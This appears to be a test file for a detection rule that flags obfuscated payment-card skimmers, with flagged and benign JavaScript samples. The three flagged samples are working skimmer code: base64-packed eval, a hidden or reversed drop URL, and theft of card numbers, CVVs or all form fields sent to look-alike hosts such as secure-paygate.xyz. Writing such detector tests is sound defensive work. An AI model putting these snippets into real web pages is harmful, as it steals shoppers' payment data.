// Tests for obfuscated-card-collector: hiding (decoded code, a string table, a hidden URL)
// plus card/form collection plus a send to an unknown or look-alike host. The finding is
// reported on the hiding technique. Sections are separate scripts.

// A base64-packed second stage that reads the card and sends an image beacon.
// ruleid: obfuscated-card-collector
eval(atob('dmFyIG49ZG9jdW1lbnQucXVlcnlTZWxlY3RvcigiI2NjX251bWJlciIpLnZhbHVlO25ldyBJbWFnZSgpLnNyYz0iaHR0cHM6Ly9zZWN1cmUtcGF5Z2F0ZS54eXovcC5naWY/ZD0iK2J0b2Eobik7'));

// ---
// A hidden drop URL (base64) with plain-text card collection.
// ruleid: obfuscated-card-collector
var gate = atob('aHR0cHM6Ly9zZWN1cmUtcGF5Z2F0ZS54eXovZ2F0ZQ==');
document.getElementById('checkout-form').addEventListener('submit', function () {
  var c = document.querySelector('[name="payment[cc_number]"]').value + '|' +
          document.querySelector('[name="payment[cc_cid]"]').value;
  navigator.sendBeacon(gate, btoa(c));
});

// ---
// A hidden drop URL (reversed string) with a sweep of every field and fetch.
// ruleid: obfuscated-card-collector
var drop = 'sj.redaol/pot.citats-ndc-scirtem//:sptth'.split('').reverse().join('');
var vals = [];
document.querySelectorAll('input, select').forEach(function (f) { vals.push(f.name + '=' + f.value); });
fetch(drop, { method: 'POST', mode: 'no-cors', body: vals.join('&') });

// ---
// An anti-bot vendor: packed code that collects signals (no card or form data).
// ok: obfuscated-card-collector
eval(atob('dmFyIHNpZz17dzpuYXZpZ2F0b3Iud2ViZHJpdmVyLHQ6RGF0ZS5ub3coKX07bmF2aWdhdG9yLnNlbmRCZWFjb24oImh0dHBzOi8vY2hhbGxlbmdlLmJvdHNoaWVsZC12ZW5kb3IubmV0L3MiLEpTT04uc3RyaW5naWZ5KHNpZykpOw=='));

// ---
// A packed payment integration: reads the card, sends it to the processor only.
// ok: obfuscated-card-collector
eval(atob('dmFyIGM9ZG9jdW1lbnQuZ2V0RWxlbWVudEJ5SWQoImNhcmQtbnVtYmVyIikudmFsdWU7ZmV0Y2goImh0dHBzOi8vYXBpLnN0cmlwZS5jb20vdjEvdG9rZW5zIix7bWV0aG9kOiJQT1NUIixib2R5OiJjYXJkW251bWJlcl09IitjfSk7'));

// ---
// Plain (unobfuscated) card code posting to the site.
// ok: obfuscated-card-collector
var num = document.querySelector('#cc_number').value;
fetch('/checkout/payment', { method: 'POST', body: JSON.stringify({ num: num }) });
